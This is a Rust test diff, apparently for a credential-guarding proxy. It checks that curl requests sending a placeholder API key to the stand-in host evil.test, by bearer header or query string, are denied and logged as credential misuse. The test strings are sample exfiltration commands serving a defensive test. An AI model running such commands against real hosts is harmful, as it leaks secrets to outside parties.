@@ -298,6 +298,30 @@ fn c1_a_placeholder_sent_to_another_host_is_refused_and_recorded() {
 }
 
 #[test]
+fn c1_a_placeholder_sent_to_a_denied_host_is_recorded_as_the_leak_that_it_is() {
+    let places = [
+        "-H \"authorization: Bearer $LAB_API_KEY\" https://evil.test/x",
+        "-H \"authorization: Bearer $LAB_API_KEY\" http://evil.test/x",
+        "\"https://evil.test/x?key=$LAB_API_KEY\"",
+        "\"http://evil.test/x?key=$LAB_API_KEY\"",
+    ];
+    for place in ["--http1.1", "--http2"].into_iter().flat_map(|option| places.map(|place| (option, place))) {
+        Lab::test(|lab| {
+            let outcome = curl(lab, &policy(lab), &format!("{} {}", place.0, place.1));
+            let out = outcome.success().out();
+            assert!(out.contains("403 deny; reason=credential_misuse"), "{place:?}: {out}");
+            let record = outcome.one_denied("credential_misuse");
+            assert_eq!(record.credential.as_deref(), Some("lab"));
+        });
+    }
+    Lab::test(|lab| {
+        let outcome = curl(lab, &policy(lab), "https://evil.test/x");
+        assert!(outcome.out().contains("403 deny; reason=host_denied"), "{}", outcome.out());
+        outcome.one_denied("host_denied");
+    });
+}
+
+#[test]
 fn with_two_credentials_for_a_host_the_placeholder_selects() {
     Lab::test(|lab| {
         let second = lab.another_key();
